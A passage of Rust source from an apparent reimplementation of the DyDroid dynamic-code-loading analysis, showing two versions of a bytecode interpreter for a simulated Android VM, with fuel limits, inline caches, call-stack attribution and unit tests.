                    let av = regs[*a as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    let bv = regs[*b as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    regs[*dst as usize] = Value::Int(arith(*op, av, bv)?);
                    pc += 1;
                }
                Instruction::ReturnVoid => return Ok(Value::Null),
                Instruction::Return { reg } => {
                    return Ok(std::mem::replace(&mut regs[*reg as usize], Value::Null));
                }
                Instruction::Throw { reg } => {
                    let msg = match std::mem::replace(&mut regs[*reg as usize], Value::Null) {
                        Value::Str(s) => s,
                        other => format!("{other:?}"),
                    };
                    return Err(Exec::Throw(msg));
                }
                Instruction::CheckCast { .. } => pc += 1,
            }
        }
    }

    fn execute_fast(&mut self, rm: &ResolvedMethod, args: Vec<Value>) -> Result<Value, Exec> {
        let mut regs = self.frame_regs(rm.registers, args);
        let result = self.run_fast(rm, &mut regs);
        regs.clear();
        self.proc.reg_pool.push(regs);
        result
    }

    fn run_fast(&mut self, rm: &ResolvedMethod, regs: &mut [Value]) -> Result<Value, Exec> {
        let mut pc: usize = 0;
        let mut last_result = Value::Null;
        let code = &rm.code;
        loop {
            if self.fuel == 0 {
                return Err(Exec::OutOfFuel);
            }
            self.fuel -= 1;
            let Some(insn) = code.get(pc) else {
                // Falling off the end is a void return.
                return Ok(Value::Null);
            };
            match insn {
                RInsn::Nop => pc += 1,
                RInsn::Const { dst, value } => {
                    regs[*dst as usize] = Value::Int(*value);
                    pc += 1;
                }
                RInsn::ConstString { dst, value } => {
                    regs[*dst as usize] = Value::Str(value.clone());
                    pc += 1;
                }
                RInsn::ConstNull { dst } => {
                    regs[*dst as usize] = Value::Null;
                    pc += 1;
                }
                RInsn::Move { dst, src } => {
                    regs[*dst as usize] = regs[*src as usize].clone();
                    pc += 1;
                }
                RInsn::MoveResult { dst } => {
                    regs[*dst as usize] = last_result.clone();
                    pc += 1;
                }
                RInsn::NewInstance { dst, class } => {
                    let id = self.proc.heap.alloc(*class);
                    regs[*dst as usize] = Value::Obj(id);
                    pc += 1;
                }
                RInsn::InvokeFramework {
                    mref,
                    args,
                    has_receiver,
                } => {
                    let argv: Vec<Value> = args.iter().map(|r| regs[*r as usize].clone()).collect();
                    if *has_receiver && matches!(argv.first(), Some(Value::Null) | None) {
                        return Err(Exec::Throw(format!(
                            "NullPointerException: invoking {}.{}",
                            mref.class, mref.name
                        )));
                    }
                    last_result = intrinsics::dispatch(self, mref, &argv)?;
                    pc += 1;
                }
                RInsn::InvokeApp {
                    class,
                    name,
                    args,
                    has_receiver,
                    site,
                } => {
                    let argv: Vec<Value> = args.iter().map(|r| regs[*r as usize].clone()).collect();
                    if *has_receiver && matches!(argv.first(), Some(Value::Null) | None) {
                        let c = self.proc.interner.resolve(*class);
                        let n = self.proc.interner.resolve(*name);
                        return Err(Exec::Throw(format!(
                            "NullPointerException: invoking {c}.{n}"
                        )));
                    }
                    last_result = self.invoke_app_fast(*class, *name, argv, Some(*site))?;
                    pc += 1;
                }
                RInsn::IGet {
                    dst,
                    obj,
                    field,
                    site,
                } => {
                    let id = match regs[*obj as usize].as_obj() {
                        Some(id) => id,
                        None => return Err(npe("iget", self.proc.interner.resolve(*field))),
                    };
                    let cached = self.proc.ics.fields[*site as usize].slot;
                    let object = match self.proc.heap.get(id) {
                        Some(o) => o,
                        None => return Err(npe("iget", self.proc.interner.resolve(*field))),
                    };
                    // (value, new slot to cache): slot == IC_EMPTY on a
                    // miss with no existing field.
                    let (value, found) = match object.fields.get(cached as usize) {
                        Some((s, v)) if s == field => (v.clone(), None),
                        _ => match object.fields.iter().position(|(s, _)| s == field) {
                            Some(idx) => (object.fields[idx].1.clone(), Some(idx as u32)),
                            None => (Value::Null, Some(IC_EMPTY)),
                        },
                    };
                    match found {
                        None => self.proc.ics.stats.field_hits += 1,
                        Some(slot) => {
                            self.proc.ics.stats.field_misses += 1;
                            if slot != IC_EMPTY {
                                self.proc.ics.fields[*site as usize].slot = slot;
                            }
                        }
                    }
                    regs[*dst as usize] = value;
                    pc += 1;
                }
                RInsn::IPut {
                    src,
                    obj,
                    field,
                    site,
                } => {
                    let value = regs[*src as usize].clone();
                    let id = match regs[*obj as usize].as_obj() {
                        Some(id) => id,
                        None => return Err(npe("iput", self.proc.interner.resolve(*field))),
                    };
                    let cached = self.proc.ics.fields[*site as usize].slot;
                    let object = match self.proc.heap.get_mut(id) {
                        Some(o) => o,
                        None => return Err(npe("iput", self.proc.interner.resolve(*field))),
                    };
                    let found = match object.fields.get_mut(cached as usize) {
                        Some((s, v)) if s == field => {
                            *v = value;
                            None
                        }
                        _ => match object.fields.iter().position(|(s, _)| s == field) {
                            Some(idx) => {
                                object.fields[idx].1 = value;
                                Some(idx as u32)
                            }
                            None => {
                                object.fields.push((*field, value));
                                Some((object.fields.len() - 1) as u32)
                            }
                        },
                    };
                    match found {
                        None => self.proc.ics.stats.field_hits += 1,
                        Some(slot) => {
                            self.proc.ics.stats.field_misses += 1;
                            self.proc.ics.fields[*site as usize].slot = slot;
                        }
                    }
                    pc += 1;
                }
                RInsn::SGet {
                    dst,
                    class,
                    name,
                    site,
                } => {
                    let cached = self.proc.ics.statics[*site as usize].slot;
                    let value = if cached != IC_EMPTY {
                        self.proc.ics.stats.field_hits += 1;
                        self.proc.statics.slot(cached).clone()
                    } else {
                        self.proc.ics.stats.field_misses += 1;
                        let idx = {
                            let proc = &mut *self.proc;
                            proc.statics.slot_index(
                                proc.interner.resolve(*class),
                                proc.interner.resolve(*name),
                            )
                        };
                        match idx {
                            Some(idx) => {
                                self.proc.ics.statics[*site as usize].slot = idx;
                                self.proc.statics.slot(idx).clone()
                            }
                            // Reading a never-written static is Null and
                            // does not create the slot (same as legacy).
                            None => Value::Null,
                        }
                    };
                    regs[*dst as usize] = value;
                    pc += 1;
                }
                RInsn::SPut {
                    src,
                    class,
                    name,
                    site,
                } => {
                    let value = regs[*src as usize].clone();
                    let cached = self.proc.ics.statics[*site as usize].slot;
                    if cached != IC_EMPTY {
                        self.proc.ics.stats.field_hits += 1;
                        *self.proc.statics.slot_mut(cached) = value;
                    } else {
                        self.proc.ics.stats.field_misses += 1;
                        let idx = {
                            let proc = &mut *self.proc;
                            proc.statics.ensure_slot(
                                proc.interner.resolve(*class),
                                proc.interner.resolve(*name),
                            )
                        };
                        self.proc.ics.statics[*site as usize].slot = idx;
                        *self.proc.statics.slot_mut(idx) = value;
                    }
                    pc += 1;
                }
                RInsn::IfZero { cmp, reg, target } => {
                    let v = int_for_cmp(&regs[*reg as usize]);
                    if cmp.eval(v, 0) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                RInsn::IfCmp { cmp, a, b, target } => {
                    let av = int_for_cmp(&regs[*a as usize]);
                    let bv = int_for_cmp(&regs[*b as usize]);
                    if cmp.eval(av, bv) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                RInsn::Goto { target } => pc = *target as usize,
                RInsn::Arith { op, dst, a, b } => {
                    let av = regs[*a as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    let bv = regs[*b as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    regs[*dst as usize] = Value::Int(arith(*op, av, bv)?);
                    pc += 1;
                }
                RInsn::ReturnVoid => return Ok(Value::Null),
                RInsn::Return { reg } => {
                    return Ok(std::mem::replace(&mut regs[*reg as usize], Value::Null));
                }
                RInsn::Throw { reg } => {
                    let msg = match std::mem::replace(&mut regs[*reg as usize], Value::Null) {
                        Value::Str(s) => s,
                        other => format!("{other:?}"),
                    };
                    return Err(Exec::Throw(msg));
                }
            }
        }
    }

    fn dispatch_invoke(
        &mut self,
        kind: InvokeKind,
        mref: &dydroid_dex::MethodRef,
        argv: Vec<Value>,
    ) -> Result<Value, Exec> {
        if is_framework_class(&mref.class) {
            return intrinsics::dispatch(self, mref, &argv);
        }
        // Receiver runtime class may be a framework intrinsic object even
        // when the static type is an app class alias; but in our model app
        // bytecode names framework classes directly, so plain dispatch.
        let _ = kind;
        self.invoke_resolved(&mref.class, &mref.name, argv)
    }

    /// Allocates a heap object (used by intrinsics).
    pub fn alloc(&mut self, class: &str, intrinsic: crate::heap::IntrinsicState) -> ObjId {
        let sym = self.proc.interner.intern(class);
        self.proc.heap.alloc_intrinsic(sym, intrinsic)
    }
}

fn arith(op: dydroid_dex::BinOp, av: i64, bv: i64) -> Result<i64, Exec> {
    use dydroid_dex::BinOp as B;
    Ok(match op {
        B::Add => av.wrapping_add(bv),
        B::Sub => av.wrapping_sub(bv),
        B::Mul => av.wrapping_mul(bv),
        B::Div | B::Rem if bv == 0 => {
            return Err(Exec::Throw(
                "ArithmeticException: divide by zero".to_string(),
            ));
        }
        B::Div => av.wrapping_div(bv),
        B::Rem => av.wrapping_rem(bv),
        B::Xor => av ^ bv,
        B::And => av & bv,
        B::Or => av | bv,
    })
}

fn npe(op: &str, field: &str) -> Exec {
    Exec::Throw(format!("NullPointerException: {op} {field}"))
}

fn int_for_cmp(v: &Value) -> i64 {
    match v {
        Value::Int(n) => *n,
        Value::Null => 0,
        Value::Obj(_) => 1,
        Value::Str(s) => i64::from(!s.is_empty()),
    }
}

/// The default value for a method's declared return type.
pub fn default_return(method: &Method) -> Value {
    if method.sig.returns_value() {
        match method.sig.ret() {
            dydroid_dex::TypeDesc::Int
            | dydroid_dex::TypeDesc::Boolean
            | dydroid_dex::TypeDesc::Long => Value::Int(0),
            _ => Value::Null,
        }
    } else {
        Value::Null
    }
}

/// Whether a class is provided by the platform (dispatched intrinsically,
/// never resolved from app class spaces).
pub fn is_framework_class(class: &str) -> bool {
    class.starts_with("java.")
        || class.starts_with("javax.")
        || class.starts_with("android.")
        || class.starts_with("dalvik.")
        || class.starts_with("com.android.")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::device::{Device, DeviceConfig};
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{CmpKind, DexFile, FieldRef, Manifest, MethodRef};

    fn run_mode(
        classes: DexFile,
        class: &str,
        method: &str,
        legacy: bool,
    ) -> (Result<Value, Exec>, Device, u64) {
        let mut device = Device::new(DeviceConfig {
            legacy_interp: legacy,
            ..DeviceConfig::default()
        });
        let mut proc = Process::new("com.a".to_string(), classes, &Manifest::new("com.a"));
        let (result, used) = {
            let mut vm = Vm::new(&mut device, &mut proc);
            let r = vm.call_entry(class, method);
            (r, DEFAULT_FUEL - vm.fuel)
        };
        (result, device, used)
    }

    fn run(classes: DexFile, class: &str, method: &str) -> (Result<Value, Exec>, Device) {
        // Every interpreter test runs through BOTH paths and insists
        // on identical results and identical fuel accounting.
        let (fast, device, fast_used) = run_mode(classes.clone(), class, method, false);
        let (legacy, _, legacy_used) = run_mode(classes, class, method, true);
        assert_eq!(fast, legacy, "fast and legacy paths diverged");
        assert_eq!(fast_used, legacy_used, "fuel accounting diverged");
        (fast, device)
    }

    #[test]
    fn arithmetic_and_return() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_int(0, 6);
        m.const_int(1, 7);
        m.binop(dydroid_dex::BinOp::Mul, 2, 0, 1);
        m.ret(2);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(42));
    }

    #[test]
    fn divide_by_zero_throws() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_int(0, 1);
        m.const_int(1, 0);
        m.binop(dydroid_dex::BinOp::Div, 2, 0, 1);
        m.ret(2);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("divide by zero")));
    }

    #[test]
    fn loops_and_branches() {
        // Sum 1..=5 via a loop.
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(4);
        m.const_int(0, 0); // acc
        m.const_int(1, 5); // i
        let head = m.label();
        let done = m.label();
        m.bind(head);
        m.if_zero(CmpKind::Le, 1, done);
        m.binop(dydroid_dex::BinOp::Add, 0, 0, 1);
        m.const_int(2, 1);
        m.binop(dydroid_dex::BinOp::Sub, 1, 1, 2);
        m.goto(head);
        m.bind(done);
        m.ret(0);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(15));
    }

    #[test]
    fn infinite_loop_hits_fuel() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        let head = m.label();
        m.bind(head);
        m.goto(head);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r, Err(Exec::OutOfFuel));
    }

    #[test]
    fn fields_and_methods_across_objects() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Counter", "java.lang.Object");
            c.field("n", "I", AccessFlags::PRIVATE);
            let inc = c.method("bump", "()V", AccessFlags::PUBLIC);
            inc.registers(4);
            inc.iget(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            inc.const_int(2, 1);
            inc.binop(dydroid_dex::BinOp::Add, 1, 1, 2);
            inc.iput(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            inc.ret_void();
        }
        {
            let c = b.class("com.a.M", "java.lang.Object");
            let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(4);
            m.new_instance(0, "com.a.Counter");
            m.invoke_virtual(MethodRef::new("com.a.Counter", "bump", "()V"), vec![0]);
            m.invoke_virtual(MethodRef::new("com.a.Counter", "bump", "()V"), vec![0]);
            m.iget(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            m.ret(1);
        }
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(2));
    }

    #[test]
    fn statics_shared() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(2);
        m.const_int(0, 99);
        m.sput(0, FieldRef::new("com.a.G", "v", "I"));
        m.sget(1, FieldRef::new("com.a.G", "v", "I"));
        m.ret(1);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(99));
    }

    #[test]
    fn null_receiver_is_npe() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_null(0);
        m.invoke_virtual(MethodRef::new("com.a.M", "g", "()V"), vec![0]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("NullPointerException")));
    }

    #[test]
    fn missing_class_throws_cnfe() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.new_instance(0, "com.a.Ghost");
        m.invoke_virtual(MethodRef::new("com.a.Ghost", "g", "()V"), vec![0]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("ClassNotFoundException")));
    }

    #[test]
    fn explicit_throw_propagates() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_str(0, "custom failure");
        m.throw(0);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r, Err(Exec::Throw("custom failure".to_string())));
    }

    #[test]
    fn recursion_depth_limited() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.invoke_static(MethodRef::new("com.a.M", "f", "()V"), vec![]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::StackOverflow) | Err(Exec::OutOfFuel)));
    }

    #[test]
    fn framework_class_detection() {
        assert!(is_framework_class("java.net.URL"));
        assert!(is_framework_class("dalvik.system.DexClassLoader"));
        assert!(is_framework_class("android.telephony.TelephonyManager"));
        assert!(!is_framework_class("com.example.Main"));
        assert!(!is_framework_class("com.google.ads.Loader"));
    }

    #[test]
    fn virtual_dispatch_uses_runtime_class() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Base", "java.lang.Object");
            let m = c.method("v", "()I", AccessFlags::PUBLIC);
            m.const_int(1, 1);
            m.ret(1);
        }
        {
            let c = b.class("com.a.Sub", "com.a.Base");
            let m = c.method("v", "()I", AccessFlags::PUBLIC);
            m.const_int(1, 2);
            m.ret(1);
        }
        {
            let c = b.class("com.a.M", "java.lang.Object");
            let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(4);
            m.new_instance(0, "com.a.Sub");
            // Statically typed as Base; must hit Sub::v.
            m.invoke_virtual(MethodRef::new("com.a.Base", "v", "()I"), vec![0]);
            m.move_result(1);
            m.ret(1);
        }
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(2));
    }

    #[test]
    fn call_site_cache_survives_megamorphic_receivers() {
        // One call site sees Sub1 then Sub2 then Sub1 again: the
        // monomorphic cache must re-resolve correctly each time the
        // receiver class flips.
        let mut b = DexBuilder::new();
        for (cls, v) in [("com.a.Sub1", 10), ("com.a.Sub2", 20)] {
            let c = b.class(cls, "com.a.Base");
            let m = c.method("v", "()I", AccessFlags::PUBLIC);
            m.const_int(1, v);
            m.ret(1);
        }
        b.class("com.a.Base", "java.lang.Object");
        {
            let c = b.class("com.a.M", "java.lang.Object");
            // call(obj) -> obj.v()
            let call = c.method(
                "call",
                "(Ljava/lang/Object;)I",
                AccessFlags::PUBLIC | AccessFlags::STATIC,
            );
            call.registers(2);
            call.invoke_virtual(MethodRef::new("com.a.Base", "v", "()I"), vec![0]);
            call.move_result(1);
            call.ret(1);
            let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(6);
            m.new_instance(0, "com.a.Sub1");
            m.new_instance(1, "com.a.Sub2");
            m.invoke_static(
                MethodRef::new("com.a.M", "call", "(Ljava/lang/Object;)I"),
                vec![0],
            );
            m.move_result(2);
            m.invoke_static(
                MethodRef::new("com.a.M", "call", "(Ljava/lang/Object;)I"),
                vec![1],
            );
            m.move_result(3);
            m.invoke_static(
                MethodRef::new("com.a.M", "call", "(Ljava/lang/Object;)I"),
                vec![0],
            );
            m.move_result(4);
            // 10 + 20 + 10 = 40
            m.binop(dydroid_dex::BinOp::Add, 2, 2, 3);
            m.binop(dydroid_dex::BinOp::Add, 2, 2, 4);
            m.ret(2);
        }
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(40));
    }
}
