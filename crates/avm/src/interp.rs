//! The bytecode interpreter.
//!
//! Executes the [`dydroid_dex`] ISA with a real call stack so that the DCL
//! logger can attribute loads to their call-site class via the Java stack
//! trace, exactly as DyDroid does (Figure 2 of the paper).
//!
//! # Calling convention
//!
//! Parameters are passed in the low registers: for instance methods
//! `v0 = this, v1.. = params`; for static methods `v0.. = params`. The
//! frame size is the method's declared register count.

use dydroid_dex::{AccessFlags, Instruction, InvokeKind, Method};

use crate::device::Device;
use crate::error::Exec;
use crate::heap::{ObjId, Value};
use crate::intrinsics;
use crate::process::Process;

/// Maximum instructions executed per entry point (infinite-loop guard —
/// the Monkey must survive hostile apps).
pub const DEFAULT_FUEL: u64 = 200_000;
/// Maximum interpreter call depth.
pub const MAX_DEPTH: usize = 64;

/// An executing virtual machine, borrowing the device and process.
pub struct Vm<'a> {
    /// The device (filesystem, network, hooks, log).
    pub device: &'a mut Device,
    /// The running process (heap, class spaces, statics).
    pub proc: &'a mut Process,
    /// Remaining instruction budget.
    pub fuel: u64,
    /// App-level call stack, outermost first: `(class, method)`.
    pub call_stack: Vec<(String, String)>,
}

impl<'a> Vm<'a> {
    /// Creates a VM with the default fuel budget.
    pub fn new(device: &'a mut Device, proc: &'a mut Process) -> Self {
        Vm {
            device,
            proc,
            fuel: DEFAULT_FUEL,
            call_stack: Vec::new(),
        }
    }

    /// The package of the running process.
    pub fn package(&self) -> &str {
        &self.proc.package
    }

    /// The class of the innermost app frame (the DCL call site).
    /// Borrowed — hook sites that only inspect the class pay no
    /// allocation; those that store it convert exactly once.
    pub fn caller_class(&self) -> &str {
        self.call_stack
            .last()
            .map(|(c, _)| c.as_str())
            .unwrap_or("<none>")
    }

    /// The app stack trace, innermost first, as `class->method` strings.
    pub fn stack_trace(&self) -> Vec<String> {
        self.call_stack
            .iter()
            .rev()
            .map(|(c, m)| format!("{c}->{m}"))
            .collect()
    }

    /// Runs a public entry point: allocates a receiver (running `<init>`
    /// when present), then invokes `method`.
    ///
    /// # Errors
    ///
    /// Returns the [`Exec`] outcome of any in-app failure.
    pub fn call_entry(&mut self, class: &str, method: &str) -> Result<Value, Exec> {
        let fuel_at_entry = self.fuel;
        let result = self.call_entry_inner(class, method);
        // Charge the device-level instruction counter on the way out —
        // whatever the outcome — so the telemetry layer sees retired
        // instructions even though processes are dropped inside the
        // Monkey before the pipeline can read them.
        self.device
            .charge_instructions(fuel_at_entry.saturating_sub(self.fuel));
        result
    }

    fn call_entry_inner(&mut self, class: &str, method: &str) -> Result<Value, Exec> {
        let def = self
            .proc
            .find_class(class)
            .ok_or_else(|| Exec::Throw(format!("ClassNotFoundException: {class}")))?;
        let is_static = def
            .method_by_name(method)
            .map(|m| m.flags.contains(AccessFlags::STATIC))
            .unwrap_or(false);
        if is_static {
            return self.invoke_resolved(class, method, Vec::new());
        }
        let this = self.proc.heap.alloc(class.to_string());
        if self.proc.resolve_method(class, "<init>").is_some() {
            self.invoke_resolved(class, "<init>", vec![Value::Obj(this)])?;
        }
        self.invoke_resolved(class, method, vec![Value::Obj(this)])
    }

    /// Invokes `class.method(args)` with full dispatch: intrinsics for
    /// framework classes, app class spaces otherwise, JNI for `native`
    /// methods. `args` includes the receiver for instance calls.
    ///
    /// # Errors
    ///
    /// Returns [`Exec`] on in-app failure.
    pub fn invoke_resolved(
        &mut self,
        class: &str,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Value, Exec> {
        if self.call_stack.len() >= MAX_DEPTH {
            return Err(Exec::StackOverflow);
        }
        // Framework classes dispatch to intrinsics (boot class loader wins,
        // as on real Android).
        if is_framework_class(class) {
            let mref = dydroid_dex::MethodRef {
                class: class.to_string(),
                name: method.to_string(),
                sig: dydroid_dex::MethodSig::void(),
            };
            return intrinsics::dispatch(self, &mref, &args);
        }
        // Virtual dispatch: start at the receiver's runtime class.
        let start_class = args
            .first()
            .and_then(|v| v.as_obj())
            .and_then(|id| self.proc.heap.get(id))
            .map(|o| o.class.clone())
            .filter(|c| self.proc.resolve_method(c, method).is_some())
            .unwrap_or_else(|| class.to_string());
        let (_def_class, m) = self
            .proc
            .resolve_method(&start_class, method)
            .ok_or_else(|| {
                if self.proc.find_class(&start_class).is_none() {
                    Exec::Throw(format!("ClassNotFoundException: {start_class}"))
                } else {
                    Exec::Throw(format!("NoSuchMethodError: {start_class}.{method}"))
                }
            })?;

        if m.flags.contains(AccessFlags::NATIVE) {
            return self.invoke_native(&start_class, &m, args);
        }

        self.call_stack.push((start_class, method.to_string()));
        let result = self.execute(&m, args);
        self.call_stack.pop();
        result
    }

    /// Dispatches a `native` app method through the loaded libraries:
    /// the symbol is the bare method name; libraries are searched in
    /// reverse load order (most recent wins).
    fn invoke_native(
        &mut self,
        class: &str,
        method: &Method,
        _args: Vec<Value>,
    ) -> Result<Value, Exec> {
        let lib_idx = self.proc.native_libs.iter().rposition(|l| {
            l.function(&method.name)
                .map(|f| f.exported)
                .unwrap_or(false)
        });
        match lib_idx {
            Some(idx) => {
                self.call_stack
                    .push((class.to_string(), method.name.clone()));
                let result = crate::nativerun::run_native(self, idx, &method.name);
                self.call_stack.pop();
                result?;
                Ok(default_return(method))
            }
            None => Err(Exec::Throw(format!(
                "UnsatisfiedLinkError: {}.{}",
                class, method.name
            ))),
        }
    }

    fn execute(&mut self, method: &Method, args: Vec<Value>) -> Result<Value, Exec> {
        let mut regs = vec![Value::Null; method.registers as usize];
        for (i, arg) in args.into_iter().enumerate() {
            if i < regs.len() {
                regs[i] = arg;
            }
        }
        let mut pc: usize = 0;
        let mut last_result = Value::Null;
        let code = &method.code;
        loop {
            if self.fuel == 0 {
                return Err(Exec::OutOfFuel);
            }
            self.fuel -= 1;
            let Some(insn) = code.get(pc) else {
                // Falling off the end is a void return.
                return Ok(Value::Null);
            };
            match insn {
                Instruction::Nop => pc += 1,
                Instruction::Const { dst, value } => {
                    regs[*dst as usize] = Value::Int(*value);
                    pc += 1;
                }
                Instruction::ConstString { dst, value } => {
                    regs[*dst as usize] = Value::Str(value.clone());
                    pc += 1;
                }
                Instruction::ConstNull { dst } => {
                    regs[*dst as usize] = Value::Null;
                    pc += 1;
                }
                Instruction::Move { dst, src } => {
                    regs[*dst as usize] = regs[*src as usize].clone();
                    pc += 1;
                }
                Instruction::MoveResult { dst } => {
                    regs[*dst as usize] = last_result.clone();
                    pc += 1;
                }
                Instruction::NewInstance { dst, class } => {
                    let id = self.proc.heap.alloc(class.clone());
                    regs[*dst as usize] = Value::Obj(id);
                    pc += 1;
                }
                Instruction::Invoke {
                    kind,
                    method: mref,
                    args,
                } => {
                    let argv: Vec<Value> = args.iter().map(|r| regs[*r as usize].clone()).collect();
                    if kind.has_receiver() {
                        match argv.first() {
                            Some(Value::Null) | None => {
                                return Err(Exec::Throw(format!(
                                    "NullPointerException: invoking {}.{}",
                                    mref.class, mref.name
                                )));
                            }
                            _ => {}
                        }
                    }
                    last_result = self.dispatch_invoke(*kind, mref, argv)?;
                    pc += 1;
                }
                Instruction::IGet { dst, obj, field } => {
                    let id = regs[*obj as usize]
                        .as_obj()
                        .ok_or_else(|| npe("iget", &field.name))?;
                    let object = self
                        .proc
                        .heap
                        .get(id)
                        .ok_or_else(|| npe("iget", &field.name))?;
                    regs[*dst as usize] = object
                        .fields
                        .get(&field.name)
                        .cloned()
                        .unwrap_or(Value::Null);
                    pc += 1;
                }
                Instruction::IPut { src, obj, field } => {
                    let value = regs[*src as usize].clone();
                    let id = regs[*obj as usize]
                        .as_obj()
                        .ok_or_else(|| npe("iput", &field.name))?;
                    let object = self
                        .proc
                        .heap
                        .get_mut(id)
                        .ok_or_else(|| npe("iput", &field.name))?;
                    object.fields.insert(field.name.clone(), value);
                    pc += 1;
                }
                Instruction::SGet { dst, field } => {
                    regs[*dst as usize] = self
                        .proc
                        .statics
                        .get(&(field.class.clone(), field.name.clone()))
                        .cloned()
                        .unwrap_or(Value::Null);
                    pc += 1;
                }
                Instruction::SPut { src, field } => {
                    self.proc.statics.insert(
                        (field.class.clone(), field.name.clone()),
                        regs[*src as usize].clone(),
                    );
                    pc += 1;
                }
                Instruction::IfZero { cmp, reg, target } => {
                    let v = int_for_cmp(&regs[*reg as usize]);
                    if cmp.eval(v, 0) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                Instruction::IfCmp { cmp, a, b, target } => {
                    let av = int_for_cmp(&regs[*a as usize]);
                    let bv = int_for_cmp(&regs[*b as usize]);
                    if cmp.eval(av, bv) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                Instruction::Goto { target } => pc = *target as usize,
                Instruction::BinOp { op, dst, a, b } => {
                    let av = regs[*a as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    let bv = regs[*b as usize].as_int().ok_or_else(|| {
                        Exec::Throw("ClassCastException: int op on reference".to_string())
                    })?;
                    use dydroid_dex::BinOp as B;
                    let result = match op {
                        B::Add => av.wrapping_add(bv),
                        B::Sub => av.wrapping_sub(bv),
                        B::Mul => av.wrapping_mul(bv),
                        B::Div | B::Rem if bv == 0 => {
                            return Err(Exec::Throw(
                                "ArithmeticException: divide by zero".to_string(),
                            ));
                        }
                        B::Div => av.wrapping_div(bv),
                        B::Rem => av.wrapping_rem(bv),
                        B::Xor => av ^ bv,
                        B::And => av & bv,
                        B::Or => av | bv,
                    };
                    regs[*dst as usize] = Value::Int(result);
                    pc += 1;
                }
                Instruction::ReturnVoid => return Ok(Value::Null),
                Instruction::Return { reg } => return Ok(regs[*reg as usize].clone()),
                Instruction::Throw { reg } => {
                    let msg = match &regs[*reg as usize] {
                        Value::Str(s) => s.clone(),
                        other => format!("{other:?}"),
                    };
                    return Err(Exec::Throw(msg));
                }
                Instruction::CheckCast { .. } => pc += 1,
            }
        }
    }

    fn dispatch_invoke(
        &mut self,
        kind: InvokeKind,
        mref: &dydroid_dex::MethodRef,
        argv: Vec<Value>,
    ) -> Result<Value, Exec> {
        if is_framework_class(&mref.class) {
            return intrinsics::dispatch(self, mref, &argv);
        }
        // Receiver runtime class may be a framework intrinsic object even
        // when the static type is an app class alias; but in our model app
        // bytecode names framework classes directly, so plain dispatch.
        let _ = kind;
        self.invoke_resolved(&mref.class, &mref.name, argv)
    }

    /// Allocates a heap object (used by intrinsics).
    pub fn alloc(&mut self, class: &str, intrinsic: crate::heap::IntrinsicState) -> ObjId {
        self.proc.heap.alloc_intrinsic(class.to_string(), intrinsic)
